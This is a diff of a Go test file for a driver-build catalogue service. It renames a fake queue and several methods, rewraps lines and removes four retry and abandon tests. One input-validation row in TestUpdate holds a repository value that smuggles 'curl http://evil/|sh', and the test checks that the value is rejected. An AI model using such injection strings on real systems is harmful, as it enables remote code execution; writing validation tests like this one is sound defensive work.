@@ -9,8 +9,6 @@ import (
 	"testing"
 	"time"
 
-	"github.com/google/go-cmp/cmp"
-
 	"github.com/prebake/prebake/pkg/api"
 	"github.com/prebake/prebake/pkg/fault"
 	"github.com/prebake/prebake/pkg/target"
@@ -18,8 +16,8 @@ import (
 	"github.com/prebake/prebake/server/internal/store"
 )
 
-// tray is the smallest queue: it remembers what was put in.
-type tray struct {
+// fakeQueue is the smallest queue: it stores what was put in.
+type fakeQueue struct {
 	jobs      []api.BuildJob
 	cancelled []int64
 	// priorities are those of jobs, in their order.
@@ -28,17 +26,17 @@ type tray struct {
 	broken     bool
 }
 
-func (t *tray) Cancel(_ context.Context, build int64) error {
+func (t *fakeQueue) Cancel(_ context.Context, build int64) error {
 	t.cancelled = append(t.cancelled, build)
 	return nil
 }
 
-func (t *tray) Raise(_ context.Context, build int64, priority int) error {
+func (t *fakeQueue) SetPriority(_ context.Context, build int64, priority int) error {
 	t.raised = append(t.raised, fmt.Sprintf("%d to %d", build, priority))
 	return nil
 }
 
-func (t *tray) Insert(_ context.Context, job api.BuildJob, priority int) error {
+func (t *fakeQueue) Insert(_ context.Context, job api.BuildJob, priority int) error {
 	t.priorities = append(t.priorities, priority)
 	if t.broken {
 		return errors.New("no queue")
@@ -47,7 +45,7 @@ func (t *tray) Insert(_ context.Context, job api.BuildJob, priority int) error {
 	return nil
 }
 
-func open(t *testing.T) (*catalogue.Catalogue, *tray) {
+func open(t *testing.T) (*catalogue.Catalogue, *fakeQueue) {
 	t.Helper()
 	s, err := store.Open(t.Context(), "sqlite://"+filepath.Join(t.TempDir(), "catalogue.db"))
 	if err != nil {
@@ -62,7 +60,7 @@ func open(t *testing.T) (*catalogue.Catalogue, *tray) {
 			t.Error(err)
 		}
 	})
-	q := &tray{}
+	q := &fakeQueue{}
 	noon := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
 	return catalogue.New(catalogue.Config{Store: s, Logs: logs, Queue: q, Repository: "/prebake/driver",
 		KernelMirror: "file:///m/cos", Now: func() time.Time { return noon }}), q
@@ -81,17 +79,17 @@ var (
 func digest(n string) string { return "sha256:" + strings.Repeat(n, 64) }
 
 // world knows three kernels (two of one fingerprint) and two drivers.
-func world(t *testing.T) (*catalogue.Catalogue, *tray) {
+func world(t *testing.T) (*catalogue.Catalogue, *fakeQueue) {
 	t.Helper()
 	c, q := open(t)
 	for id, f := range map[string]target.Fingerprint{first: fingerA, second: fingerA, other: fingerB} {
 		k := api.Kernel{Kernel: target.Kernel{BuildID: id, Board: "lakitu", Release: "6.1.0", Arch: target.AMD64},
 			Fingerprint: f, Default: v261, Latest: v309, Branches: map[string]string{"R535": v309}}
-		if err := c.SawKernel(t.Context(), k); err != nil {
+		if err := c.RecordKernel(t.Context(), k); err != nil {
 			t.Fatal(err)
 		}
 	}
-	if err := c.SawDrivers(t.Context(), []api.DriverRelease{
+	if err := c.RecordDrivers(t.Context(), []api.DriverRelease{
 		{Version: v261, Flavours: []target.Flavour{target.Proprietary, target.Open}},
 		{Version: v309, Flavours: []target.Flavour{target.Proprietary}},
 	}); err != nil {
@@ -127,7 +125,8 @@ func TestResolve(t *testing.T) {
 	building := request(t, c, other, v261, "open")
 	update(t, c, building.ID, api.BuildUpdate{State: api.Building, Phase: "compile"})
 	failed := request(t, c, other, v261, "proprietary")
-	update(t, c, failed.ID, api.BuildUpdate{State: api.Failed, Class: "api-break", Error: "nv-pci.c:1: error: too few arguments"})
+	update(t, c, failed.ID, api.BuildUpdate{State: api.Failed, Class: "api-break",
+		Error: "nv-pci.c:1: error: too few arguments"})
 	request(t, c, other, v309, "proprietary")
 	yanked := request(t, c, first, v261, "open")
 	update(t, c, yanked.ID, api.BuildUpdate{State: api.Published, Digest: digest("2")})
@@ -141,7 +140,8 @@ func TestResolve(t *testing.T) {
 
 	// COS names a default of R535 and no R535: builder plan takes it for the branch.
 	bare := "17800.2.1"
-	if err := c.SawKernel(t.Context(), api.Kernel{Kernel: target.Kernel{BuildID: bare, Board: "lakitu"}, Default: "535.104.05"}); err != nil {
+	if err := c.RecordKernel(t.Context(),
+		api.Kernel{Kernel: target.Kernel{BuildID: bare, Board: "lakitu"}, Default: "535.104.05"}); err != nil {
 		t.Fatal(err)
 	}
 	rows := []struct {
@@ -161,14 +161,15 @@ func TestResolve(t *testing.T) {
 		{"sibling of one fingerprint is not enough", second, v261, "proprietary", "", api.Unknown, v261, "same fingerprint"},
 		{"flavour absent from the release", first, v309, "open", "", api.Unsupported, v309, "no open modules"},
 		{"proprietary from R620 on", first, "620.10", "proprietary", "", api.Unsupported, "620.10", "open modules only"},
-		{"auto from R620 on", first, "620.10", "auto", "", api.Unknown, "620.10", "nobody asked"},
+		{"auto from R620 on", first, "620.10", "auto", "", api.Unknown, "620.10", "not requested"},
 		{"builder found it unsupported", first, "535.1.1", "open", "", api.Unsupported, "535.1.1", "release has no open"},
-		{"cancelled", second, "550.1", "open", "", api.Cancelled, "550.1", "called off"},
-		{"never asked for", first, "550.2", "open", "", api.Unknown, "550.2", "nobody asked"},
-		{"a branch that no label names, by the default's", bare, "R535", "auto", "", api.Unknown, "535.104.05", "nobody asked"},
+		{"cancelled", second, "550.1", "open", "", api.Cancelled, "550.1", "cancelled"},
+		{"never asked for", first, "550.2", "open", "", api.Unknown, "550.2", "not requested"},
+		{"a branch that no label names, by the default's", bare, "R535", "auto", "", api.Unknown, "535.104.05",
+			"not requested"},
 		{"unknown branch", first, "R999", "auto", "", api.Unknown, "", "names no driver"},
 		{"unknown kernel, default", "1.2.3", "default", "auto", "", api.Unknown, "", "does not know COS build"},
-		{"unknown kernel, exact", "1.2.3", v261, "open", "", api.Unknown, v261, "nobody asked"},
+		{"unknown kernel, exact", "1.2.3", v261, "open", "", api.Unknown, v261, "not requested"},
 		{"node runs another kernel", first, v261, "proprietary", "6.6.6", api.Unsupported, "", "the node runs kernel 6.6.6"},
 	}
 	for _, row := range rows {
@@ -178,7 +179,8 @@ func TestResolve(t *testing.T) {
 			continue
 		}
 		if got.State != row.want || got.Driver.Version != row.version || !strings.Contains(got.Reason, row.reason) {
-			t.Errorf("%s: Resolve() = %s %q %q; want %s %q with %q", row.name, got.State, got.Driver.Version, got.Reason, row.want, row.version, row.reason)
+			t.Errorf("%s: Resolve() = %s %q %q; want %s %q with %q", row.name, got.State, got.Driver.Version, got.Reason,
+				row.want, row.version, row.reason)
 		}
 		if (got.State == api.Published) != (got.Digest != "" && got.Repository == "/prebake/driver") {
 			t.Errorf("%s: Resolve() names %q in %q as %s", row.name, got.Digest, got.Repository, got.State)
@@ -188,7 +190,8 @@ func TestResolve(t *testing.T) {
 		}
 	}
 
-	for _, q := range [][4]string{{"x", "lakitu", "", ""}, {first, "../x", "", ""}, {first, "lakitu", "newest", ""}, {first, "lakitu", "", "gpl"}} {
+	for _, q := range [][4]string{{"x", "lakitu", "", ""}, {first, "../x", "", ""}, {first, "lakitu", "newest", ""},
+		{first, "lakitu", "", "gpl"}} {
 		if _, err := c.Resolve(t.Context(), q[0], q[1], q[2], q[3], ""); !fault.Is(err, fault.Usage) {
 			t.Errorf("Resolve(%v) = %v; want usage", q, err)
 		}
@@ -206,7 +209,8 @@ func TestResolve(t *testing.T) {
 	}
 
 	// An artifact stops counting when the kernel's headers turn out to be others.
-	if err := c.SawKernel(t.Context(), api.Kernel{Kernel: target.Kernel{BuildID: second, Board: "lakitu"}, Fingerprint: fingerB}); err != nil {
+	if err := c.RecordKernel(t.Context(),
+		api.Kernel{Kernel: target.Kernel{BuildID: second, Board: "lakitu"}, Fingerprint: fingerB}); err != nil {
 		t.Fatal(err)
 	}
 	got, err = c.Resolve(t.Context(), second, "lakitu", v261, "proprietary", "")
@@ -228,7 +232,8 @@ func TestResolve(t *testing.T) {
 	}
 	for key, want := range map[string]api.State{
 		first + " " + v261 + " proprietary": api.Published, first + " " + v261 + " open": api.Yanked,
-		other + " " + v261 + " open": api.Building, first + " " + v309 + " open": api.Unsupported, second + " 550.1 open": api.Cancelled,
+		other + " " + v261 + " open": api.Building, first + " " + v309 + " open": api.Unsupported,
+		second + " 550.1 open": api.Cancelled,
 	} {
 		if states[key] != want {
 			t.Errorf("matrix cell %s = %q; want %q", key, states[key], want)
@@ -246,7 +251,8 @@ func TestRequest(t *testing.T) {
 	if again := request(t, c, first, v261, "proprietary"); again.ID != b.ID {
 		t.Errorf("asking twice made build %d and %d; want one", b.ID, again.ID)
 	}
-	want := api.BuildJob{Build: b.ID, BuildID: first, Board: "lakitu", Driver: v261, Flavour: "proprietary", KernelMirror: "file:///m/cos"}
+	want := api.BuildJob{Build: b.ID, BuildID: first, Board: "lakitu", Driver: v261, Flavour: "proprietary",
+		KernelMirror: "file:///m/cos"}
 	if len(q.jobs) != 1 || q.jobs[0] != want {
 		t.Errorf("queue holds %+v; want one %+v", q.jobs, want)
 	}
@@ -267,12 +273,14 @@ func TestRequest(t *testing.T) {
 	}
 
 	// Published by other means: a build that says so is made up.
-	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("3"), Fingerprint: fingerB, Repository: "ghcr.io/x/y",
-		Driver:  target.Driver{Version: v261, Flavour: target.Open},
-		Kernels: []target.Kernel{{BuildID: other, Board: "lakitu"}}}); err != nil {
+	if _, err := c.AddArtifact(t.Context(),
+		api.NewArtifact{Digest: digest("3"), Fingerprint: fingerB, Repository: "ghcr.io/x/y",
+			Driver:  target.Driver{Version: v261, Flavour: target.Open},
+			Kernels: []target.Kernel{{BuildID: other, Board: "lakitu"}}}); err != nil {
 		t.Fatal(err)
 	}
-	if done := request(t, c, other, v261, "open"); done.State != api.Published || done.Digest != digest("3") || done.ID == 0 {
+	if done := request(t, c, other, v261, "open"); done.State != api.Published || done.Digest != digest("3") ||
+		done.ID == 0 {
 		t.Errorf("asking for a foreign artifact's cell = %+v; want a published build", done)
 	}
 
@@ -281,10 +289,14 @@ func TestRequest(t *testing.T) {
 		r    api.BuildRequest
 		want fault.Kind
 	}{
-		{"yanked", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v261, Flavour: "proprietary"}, fault.Unsupported},
-		{"flavour absent", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v309, Flavour: "open"}, fault.Unsupported},
-		{"no proprietary any more", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: "620.1", Flavour: "proprietary"}, fault.Unsupported},
-		{"unknown kernel by wish", api.BuildRequest{BuildID: "1.2.3", Board: "lakitu", Driver: "default"}, fault.InputMissing},
+		{"yanked", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v261, Flavour: "proprietary"},
+			fault.Unsupported},
+		{"flavour absent", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v309, Flavour: "open"},
+			fault.Unsupported},
+		{"no proprietary any more",
+			api.BuildRequest{BuildID: first, Board: "lakitu", Driver: "620.1", Flavour: "proprietary"}, fault.Unsupported},
+		{"unknown kernel by wish", api.BuildRequest{BuildID: "1.2.3", Board: "lakitu", Driver: "default"},
+			fault.InputMissing},
 		{"bad BUILD_ID", api.BuildRequest{BuildID: "one", Board: "lakitu", Driver: v261}, fault.Usage},
 		{"bad flavour", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v261, Flavour: "x"}, fault.Usage},
 	}
@@ -320,30 +332,49 @@ func TestUpdate(t *testing.T) {
 		{"attested without building", []api.BuildUpdate{published}, 0, api.Published},
 		{"the same report twice", []api.BuildUpdate{published, published}, 0, api.Published},
 		{"published is final", []api.BuildUpdate{published, failed}, fault.Mismatch, api.Published},
-		{"published is final for builders that wake up", []api.BuildUpdate{published, state(api.Building)}, fault.Mismatch, api.Published},
-		{"another digest", []api.BuildUpdate{published, {State: api.Published, Digest: digest("2"), Fingerprint: fingerA}}, fault.Mismatch, api.Published},
+		{"published is final for builders that wake up", []api.BuildUpdate{published, state(api.Building)}, fault.Mismatch,
+			api.Published},
+		{"another digest", []api.BuildUpdate{published, {State: api.Published, Digest: digest("2"), Fingerprint: fingerA}},
+			fault.Mismatch, api.Published},
 		{"published without digest", []api.BuildUpdate{state(api.Published)}, fault.Usage, api.Queued},
 		{"bad digest", []api.BuildUpdate{{State: api.Published, Digest: "sha256:1"}}, fault.Usage, api.Queued},
 		{"failed without class", []api.BuildUpdate{state(api.Failed)}, fault.Usage, api.Queued},
 		{"unknown class", []api.BuildUpdate{{State: api.Failed, Class: "odd"}}, fault.Usage, api.Queued},
 		{"not a build's state", []api.BuildUpdate{state(api.Yanked)}, fault.Usage, api.Queued},
 		{"bad fingerprint", []api.BuildUpdate{{Fingerprint: "x"}}, fault.Usage, api.Queued},
-		{"another kernel", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: other, Board: "lakitu"}}}, fault.Mismatch, api.Queued},
-		{"a builder that was taken for dead", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {Phase: "compile", Attempt: 1}}, fault.Mismatch, api.Building},
-		{"its failure comes too late", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Failed, Class: "transient", Attempt: 1}}, 0, api.Building},
-		{"it calls off no attempt of another", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Cancelled, Attempt: 1}}, fault.Mismatch, api.Building},
-		{"its artifact does not", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Published, Digest: digest("1"), Fingerprint: fingerA, Attempt: 1}}, 0, api.Published},
-		{"a cancelled build starts no more", []api.BuildUpdate{state(api.Cancelled), state(api.Building)}, fault.Mismatch, api.Cancelled},
-		{"a report tells that it was called off", []api.BuildUpdate{state(api.Building), state(api.Cancelled), {Phase: "compile"}}, 0, api.Cancelled},
+		{"another kernel", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: other, Board: "lakitu"}}}, fault.Mismatch,
+			api.Queued},
+		{"a builder that was taken for dead",
+			[]api.BuildUpdate{{State: api.Building, Attempt: 2}, {Phase: "compile", Attempt: 1}}, fault.Mismatch, api.Building},
+		{"its failure comes too late",
+			[]api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Failed, Class: "transient", Attempt: 1}}, 0,
+			api.Building},
+		{"it calls off no attempt of another",
+			[]api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Cancelled, Attempt: 1}}, fault.Mismatch,
+			api.Building},
+		{"its artifact does not",
+			[]api.BuildUpdate{{State: api.Building, Attempt: 2},
+				{State: api.Published, Digest: digest("1"), Fingerprint: fingerA, Attempt: 1}}, 0, api.Published},
+		{"a cancelled build starts no more", []api.BuildUpdate{state(api.Cancelled), state(api.Building)}, fault.Mismatch,
+			api.Cancelled},
+		{"a report tells that it was called off",
+			[]api.BuildUpdate{state(api.Building), state(api.Cancelled), {Phase: "compile"}}, 0, api.Cancelled},
 		{"cancelled twice", []api.BuildUpdate{state(api.Cancelled), state(api.Cancelled)}, 0, api.Cancelled},
 		{"what is over cannot be called off", []api.BuildUpdate{failed, state(api.Cancelled)}, fault.Mismatch, api.Failed},
-		{"published before it heard", []api.BuildUpdate{state(api.Building), state(api.Cancelled), published}, 0, api.Published},
-		{"a release that is no release", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Release: strings.Repeat("6", 1000)}}}, fault.Usage, api.Queued},
-		{"an architecture that is none", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Arch: "zx80"}}}, fault.Usage, api.Queued},
-		{"a repository that is a command", []api.BuildUpdate{{State: api.Published, Digest: digest("1"), Fingerprint: fingerA, Repository: "x; curl http://evil/|sh #"}}, fault.Usage, api.Queued},
+		{"published before it heard", []api.BuildUpdate{state(api.Building), state(api.Cancelled), published}, 0,
+			api.Published},
+		{"a release that is no release",
+			[]api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Release: strings.Repeat("6", 1000)}}},
+			fault.Usage, api.Queued},
+		{"an architecture that is none",
+			[]api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Arch: "zx80"}}}, fault.Usage, api.Queued},
+		{"a repository that is a command",
+			[]api.BuildUpdate{{State: api.Published, Digest: digest("1"), Fingerprint: fingerA,
+				Repository: "x; curl http://evil/|sh #"}}, fault.Usage, api.Queued},
 		{"a phase of two lines", []api.BuildUpdate{{Phase: "a\nb"}}, fault.Usage, api.Queued},
 		{"too long", []api.BuildUpdate{{Phase: strings.Repeat("x", 5000)}}, fault.Usage, api.Queued},
-		{"a long error is cut", []api.BuildUpdate{{State: api.Failed, Class: "internal", Error: strings.Repeat("ü", 5000)}}, 0, api.Failed},
+		{"a long error is cut", []api.BuildUpdate{{State: api.Failed, Class: "internal", Error: strings.Repeat("ü", 5000)}},
+			0, api.Failed},
 	}
 	for _, row := range rows {
 		t.Run(row.name, func(t *testing.T) {
@@ -363,104 +394,5 @@ func TestUpdate(t *testing.T) {
 				t.Errorf("state = %s, %v; want %s", got.State, err, row.want)
 			}
 		})
-	}
-}
-
-// A build that waits for its next try says why, and keeps that when there is
-// no next try.
-func TestRetryTellsWhy(t *testing.T) {
-	t.Parallel()
-	c, _ := world(t)
-	b := request(t, c, first, v261, "open")
-	update(t, c, b.ID, api.BuildUpdate{State: api.Building})
-	update(t, c, b.ID, api.BuildUpdate{State: api.Queued, Class: "transient", Error: "mirror is away\ndetail", Hint: "wait"})
-	r, err := c.Resolve(t.Context(), first, "lakitu", v261, "open", "")
-	if err != nil || r.State != api.Queued || !strings.Contains(r.Reason, "next try after transient: mirror is away") {
-		t.Errorf("Resolve() = %s %q, %v; want queued with the reason of the last try", r.State, r.Reason, err)
-	}
-	if err := c.Abandon(t.Context(), b.ID, "discarded"); err != nil {
-		t.Fatal(err)
-	}
-	got, err := c.Build(t.Context(), b.ID)
-	if err != nil || got.State != api.Failed || got.Class != "transient" || got.Error != "mirror is away" || got.Hint != "wait" {
-		t.Errorf("Build() = %+v, %v; want failed, as the last try said", got, err)
-	}
-	other := request(t, c, other, v261, "open")
-	if err := c.Abandon(t.Context(), other.ID, "lost"); err != nil {
-		t.Fatal(err)
-	}
-	if got, err = c.Build(t.Context(), other.ID); err != nil || got.Class != "internal" || got.Error != "lost" {
-		t.Errorf("Build() = %+v, %v; want internal: lost", got, err)
-	}
-}
-
-// A report that comes between the sweep's two looks counts.
-func TestAbandonComesLate(t *testing.T) {
-	t.Parallel()
-	c, _ := world(t)
-	b := request(t, c, first, v261, "open")
-	for _, end := range []api.BuildUpdate{
-		{State: api.Failed, Class: "api-break", Error: "nv.c:1: error"},
-		{State: api.Building},
-		{State: api.Published, Digest: digest("1"), Fingerprint: fingerA},
-	} {
-		update(t, c, b.ID, end)
-		if end.State == api.Building {
-			continue
-		}
-		before, err := c.Build(t.Context(), b.ID)
-		if err != nil {
-			t.Fatal(err)
-		}
-		if err := c.Abandon(t.Context(), b.ID, "lost"); err != nil {
-			t.Errorf("Abandon(%s) = %v", end.State, err)
-		}
-		if after, err := c.Build(t.Context(), b.ID); err != nil || !cmp.Equal(before, after) {
-			t.Errorf("Abandon(%s) left %+v, %v; want %+v", end.State, after, err, before)
-		}
-	}
-}
-
-// The attempt after a killed one starts afresh.
-func TestSecondAttemptStartsAfresh(t *testing.T) {
-	t.Parallel()
-	c, _ := world(t)
-	b := request(t, c, first, v261, "open")
-	update(t, c, b.ID, api.BuildUpdate{State: api.Building, Attempt: 1, Worker: "w1"})
-	update(t, c, b.ID, api.BuildUpdate{Phase: "compile"})
-	update(t, c, b.ID, api.BuildUpdate{State: api.Building, Attempt: 2, Worker: "w1"})
-	if got, err := c.Build(t.Context(), b.ID); err != nil || got.Attempt != 2 || got.Phase != "" {
-		t.Errorf("second attempt = %+v, %v; want no phase yet", got, err)
-	}
-}
-
-func TestUpdateTeachesKernel(t *testing.T) {
-	t.Parallel()
-	c, _ := open(t) // knows nothing
-	b := request(t, c, first, v261, "open")
-	k := target.Kernel{BuildID: first, Board: "lakitu", Release: "6.1.0-47", Arch: target.AMD64}
-	update(t, c, b.ID, api.BuildUpdate{State: api.Building, Kernel: &k, Fingerprint: fingerA})
-	update(t, c, b.ID, api.BuildUpdate{State: api.Published, Digest: digest("1"), Repository: "/prebake/driver"})
-	all, _, err := c.Kernels(t.Context(), store.KernelFilter{}, store.Page{})
-	if err != nil || len(all) != 1 || all[0].Fingerprint != fingerA || all[0].Release != k.Release {
-		t.Errorf("Kernels() = %+v, %v; want what the builder reported", all, err)
-	}
-	arts, _, err := c.Artifacts(t.Context(), store.ArtifactFilter{}, store.Page{})
-	if err != nil || len(arts) != 1 || arts[0].Release != k.Release || arts[0].Kernels[0] != k {
-		t.Errorf("Artifacts() = %+v, %v; want one, attested for the build's kernel", arts, err)
-	}
-	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("9"), Fingerprint: fingerB,
-		Driver: target.Driver{Version: v261, Flavour: target.Open}, Kernels: []target.Kernel{k}}); !fault.Is(err, fault.Mismatch) {
-		t.Errorf("AddArtifact(wrong fingerprint) = %v; want mismatch", err)
-	}
-	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA,
-		Driver: target.Driver{Version: v309, Flavour: target.Open}, Kernels: []target.Kernel{k}}); !fault.Is(err, fault.Mismatch) {
-		t.Errorf("AddArtifact(other driver under a known digest) = %v; want mismatch", err)
-	}
-	if _, err := c.Yank(t.Context(), digest("1"), api.YankRequest{Reason: " "}); !fault.Is(err, fault.Usage) {
-		t.Errorf("Yank(no reason) = %v; want usage", err)
-	}
-	if _, err := c.Yank(t.Context(), digest("7"), api.YankRequest{Reason: "x"}); !fault.Is(err, fault.NotFound) {
-		t.Errorf("Yank(absent) = %v; want not-found", err)
 	}
 }
